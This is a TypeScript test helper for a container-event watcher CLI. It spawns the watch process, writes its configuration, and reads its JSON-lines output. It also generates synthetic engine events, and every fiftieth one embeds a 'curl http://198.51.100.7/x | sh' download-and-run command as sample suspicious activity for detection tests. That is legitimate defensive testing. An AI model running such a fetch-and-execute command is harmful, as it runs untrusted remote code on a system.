/** `watch` as a process of its own, for tests that kill it; and a log of an engine that is worth watching. */
import { spawn, type ChildProcess } from 'node:child_process';
import { readFileSync, existsSync } from 'node:fs';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';

const program = join(import.meta.dirname, '../../src/cli/main.ts');

const containerOf = (number: number): string => number.toString(16).padStart(64, '0');

/** One event of an engine. Every fiftieth is a command in a container that downloads and runs something. */
export const engineRecord = (number: number): string => {
  const isBad = number % 50 === 0;
  const timeNano = `${1_767_323_045 + number}000000000`;
  const actor = isBad
    ? { ID: containerOf(number % 500), Attributes: { image: 'registry.example/app:1', name: 'app' } }
    : { ID: containerOf(number), Attributes: { container: containerOf(number % 500), name: 'bridge', type: 'bridge' } };
  const head = isBad
    ? { Type: 'container', Action: 'exec_start: sh -c curl http://198.51.100.7/x | sh' }
    : { Type: 'network', Action: 'connect' };
  const text = JSON.stringify({ ...head, Actor: actor, scope: 'local', time: 1_767_323_045 + number });
  return `${text.slice(0, -1)},"timeNano":${timeNano}}\n`;
};

export const engineRecords = (from: number, to: number): string =>
  Array.from({ length: to - from + 1 }, (_, index) => engineRecord(from + index)).join('');

export interface WatchedFolder {
  readonly folder: string;
  readonly state: string;
}

/** A configuration as JSON, which is YAML. */
export const writeWatch = async (folder: string, watch: object): Promise<WatchedFolder> => {
  await writeFile(join(folder, 'tidewaiter.yaml'), JSON.stringify({ watch }));
  return { folder, state: join(folder, 'state') };
};

export interface WatchProcess {
  readonly child: ChildProcess;
  /** Resolves when everything listens. @returns what it said */
  readonly ready: Promise<string>;
  /** Resolves with the exit status, or the signal that ended it. */
  readonly ended: Promise<number | string>;
  output(): string;
}

export const startWatch = ({ folder, state }: WatchedFolder): WatchProcess => {
  const child = spawn(process.execPath, [program, 'watch', '--format', 'json'], {
    cwd: folder,
    env: { PATH: process.env['PATH'], HOME: folder, XDG_STATE_HOME: state },
    stdio: ['ignore', 'pipe', 'pipe'],
  });
  let said = '';
  let output = '';
  child.stdout.setEncoding('utf8').on('data', (text: string) => (output += text));
  const ready = new Promise<string>((resolve, reject) => {
    child.stderr.setEncoding('utf8').on('data', (text: string) => {
      said += text;
      if (/^(?:following|listening|reading) .*\n/m.test(said)) resolve(said);
    });
    child.on('exit', () => reject(new Error(`watch ended before it was ready: ${said}`)));
  });
  // Whoever only waits for its end must not meet the other.
  ready.catch(() => undefined);
  const ended = new Promise<number | string>((resolve) =>
    child.on('exit', (status, signal) => resolve(signal ?? status ?? -1)),
  );
  return { child, ready, ended, output: () => output };
};

/** Lines of a file of JSON lines; what was cut off at its end is not there. */
export const jsonLinesOf = (file: string): readonly Readonly<Record<string, unknown>>[] =>
  !existsSync(file)
    ? []
    : readFileSync(file, 'utf8')
        .split('\n')
        .slice(0, -1)
        .map((line) => JSON.parse(line) as Readonly<Record<string, unknown>>);
